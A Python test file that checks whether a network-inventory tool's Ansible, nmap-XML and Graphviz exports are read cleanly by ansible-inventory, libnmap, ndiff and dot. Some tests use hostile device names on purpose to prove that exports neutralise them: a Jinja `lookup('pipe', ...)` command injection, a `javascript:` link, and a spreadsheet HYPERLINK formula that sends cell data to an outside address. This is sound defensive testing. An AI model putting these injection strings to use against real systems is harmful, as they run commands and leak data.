"""The programs that exports are written for read them, and read in them what was written."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from dpf_edge.export import swept
from tests.left_out import left_out
from tests.test_export_cases import CASES, SWEEPS, expected

# Debian's own, which has the modules of its packages.
SYSTEM_PYTHON = "/usr/bin/python3"
READ_BY_LIBNMAP = """
import json, sys
from libnmap.parser import NmapParser
report = NmapParser.parse_fromfile(sys.argv[1])
json.dump([report.hosts_up, [[h.address, h.mac, list(h.hostnames), h.get_ports()]
           for h in report.hosts]], sys.stdout)
"""


def program(name: str) -> str:
    """A program of this machine. One that has none skips; CI fails."""
    return shutil.which(name) or left_out(f"{name} is not installed here (make lab-deps)")


def ran(*arguments: str, **environ: str) -> subprocess.CompletedProcess[str]:
    """Run a program on a file; what it complains about is a failure."""
    return subprocess.run(
        arguments,
        env={**os.environ, **environ},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
        timeout=50,
    )


def devices(sweep: str) -> list[Any]:
    """The devices of a sweep."""
    return list(swept.inventory((CASES / f"{sweep}.json").read_bytes(), sweep).devices)


# -- Ansible


@pytest.fixture
def ansible(tmp_path: Path) -> dict[str, str]:
    """An environment in which Ansible touches nothing but the test's folder."""
    settings = tmp_path / "ansible.cfg"
    settings.touch()
    return {
        "HOME": str(tmp_path),
        "ANSIBLE_LOCAL_TEMP": str(tmp_path / "tmp"),
        "ANSIBLE_CONFIG": str(settings),
        "ANSIBLE_NOCOLOR": "1",
        # A file that it cannot read is an error, and not a warning.
        "ANSIBLE_INVENTORY_ANY_UNPARSED_IS_FAILED": "1",
        "ANSIBLE_INVENTORY_ENABLED": "yaml",
        "LC_ALL": "C.UTF-8",
    }


@pytest.mark.parametrize("sweep", SWEEPS)
def test_ansible_reads_every_host_and_its_groups(sweep: str, ansible: dict[str, str]) -> None:
    inventory = str(Path(sys.executable).with_name("ansible-inventory"))
    path = str(expected("ansible", sweep))

    done = ran(inventory, "-i", path, "--list", **ansible)

    assert (0, "") == (done.returncode, done.stderr)
    told = json.loads(done.stdout)
    hosts = told["_meta"]["hostvars"]
    wanted = [each.reachable for each in devices(sweep) if each.reachable]
    assert sorted(wanted) == sorted(each["ansible_host"] for each in hosts.values())
    if sweep == "office":
        assert ["gw.office.home.arpa", "branch-gw"] == told["kind_router"]["hosts"]
        assert [22, 445, 5000] == hosts["buro-nas"]["dpf_ports"]
    assert not {"localhost", "all"} & hosts.keys()


def test_ansible_expands_no_template_that_a_device_is_called(
    tmp_path: Path, ansible: dict[str, str]
) -> None:
    """The same lookup without the mark is expanded: so this would be seen if it were."""
    play = str(Path(sys.executable).with_name("ansible"))
    written, proof = expected("ansible", "hostile").read_text(), tmp_path / "owned"
    name = f"{{{{ lookup('pipe', 'touch {proof}') }}}}"
    marked = tmp_path / "marked.yml"
    marked.write_text(written.replace("{{ lookup('pipe', 'touch /tmp/owned') }}", name))
    assert name in marked.read_text()
    bare = tmp_path / "bare.yml"
    bare.write_text(marked.read_text().replace("!unsafe ", ""))
    told = ("lookup-pipe-touch-tmp-owned", "-m", "debug", "-a", "var=dpf_names")

    done = ran(play, "-i", str(marked), *told, **ansible)
    assert 0 == done.returncode, done.stderr
    assert name in done.stdout
    assert not proof.exists()

    ran(play, "-i", str(bare), *told, **ansible)
    assert proof.exists()


@pytest.mark.parametrize("sweep", SWEEPS)
def test_a_plain_reader_of_yaml_takes_it_too(sweep: str) -> None:
    class Loader(yaml.SafeLoader):
        """Without Ansible's own tags, but for the one that marks."""

    Loader.add_constructor("!unsafe", lambda loader, node: node.value)

    told = yaml.load(expected("ansible", sweep).read_text(), Loader)  # noqa: S506 -- a safe one

    names = [each["dpf_key"] for each in told["all"]["hosts"].values()]
    assert [each.key for each in devices(sweep) if each.reachable] == names


# -- what reads nmap's form


@pytest.mark.parametrize("sweep", SWEEPS)
def test_libnmap_reads_every_host(sweep: str) -> None:
    python = program(SYSTEM_PYTHON)
    if ran(python, "-c", "import libnmap").returncode:
        left_out("python3-libnmap is not installed here (make lab-deps)")

    done = ran(python, "-c", READ_BY_LIBNMAP, str(expected("nmap-xml", sweep)))

    assert (0, "") == (done.returncode, done.stderr)
    up, hosts = json.loads(done.stdout)
    known = [each for each in devices(sweep) if each.addresses or each.macs]
    assert len(known) == up == len(hosts)
    assert [(each.addresses or ("",))[0] for each in known] == [host[0] for host in hosts]
    assert [(each.macs or ("",))[0].upper() for each in known] == [host[1] for host in hosts]
    assert [len(each.names) for each in known] == [len(host[2]) for host in hosts]


def test_ndiff_tells_what_came_and_went() -> None:
    compare = program("ndiff")
    office, others = str(expected("nmap-xml", "office")), str(expected("nmap-xml", "others"))

    same = ran(compare, office, office)
    other = ran(compare, office, others)

    assert (0, "", "") == (same.returncode, same.stdout, same.stderr)
    assert (1, "") == (other.returncode, other.stderr)
    assert (
        "-sw-office, sw-office.office.home.arpa (192.168.40.2, 9C:3D:CF:40:00:00):" in other.stdout
    )
    assert "+alpha (10.0.0.5, fe80::1, AA:BB:CC:00:00:01):" in other.stdout


@pytest.mark.parametrize("sweep", SWEEPS)
def test_ndiff_reads_it(sweep: str) -> None:
    path = str(expected("nmap-xml", sweep))

    done = ran(program("ndiff"), path, path)

    assert (0, "") == (done.returncode, done.stderr)


# -- Graphviz


@pytest.mark.parametrize("sweep", SWEEPS)
def test_graphviz_draws_it_without_a_complaint(sweep: str) -> None:
    done = ran(program("dot"), "-Tjson", str(expected("dot", sweep)), LC_ALL="C.UTF-8")

    assert (0, "") == (done.returncode, done.stderr)
    drawn = json.loads(done.stdout)
    labels = [each.get("label", "") for each in drawn["objects"] if each["name"][0] == "d"]
    assert len(devices(sweep)) == len(labels)


def test_graphviz_takes_no_name_for_markup() -> None:
    done = ran(program("dot"), "-Tsvg", str(expected("dot", "hostile")), LC_ALL="C.UTF-8")

    assert "javascript:alert(1)" in done.stdout
    assert "<a " not in done.stdout
    assert "=HYPERLINK(&quot;http://198.51.100.1/?&quot;&amp;A1" in done.stdout
    assert ">&amp;lt;b&amp;gt; &amp;#98; &amp;amp; a&amp;b;<" in done.stdout
